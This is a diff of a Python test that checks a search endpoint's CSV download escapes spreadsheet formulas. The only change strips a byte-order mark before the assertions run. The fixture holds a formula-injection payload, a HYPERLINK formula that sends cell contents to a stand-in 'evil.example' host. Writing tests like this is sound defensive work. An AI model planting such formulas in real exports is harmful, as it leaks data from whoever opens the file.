@@ -62,6 +62,6 @@ def test_csv_downloads_never_carry_live_formulas(graph, client):
     evil = '=HYPERLINK("https://evil.example/?"&A1,"Formula Person")'
     write_records(graph, [NodeRecord("Person", "f1", {"name": evil, "status": "detained"}, ("Detainee",)),
                           NodeRecord("Person", "f2", {"name": "-Formula Minus", "status": "detained"}, ("Detainee",))])
-    text = client.get("/search", query_string={"q": "Formula", "format": "csv"}).get_data(as_text=True)
+    text = client.get("/search", query_string={"q": "Formula", "format": "csv"}).get_data(as_text=True).lstrip("\ufeff")
     assert "'=HYPERLINK" in text and "'-Formula Minus" in text
     assert '\n=HYPERLINK' not in text and ',=HYPERLINK' not in text and '"=HYPERLINK' not in text
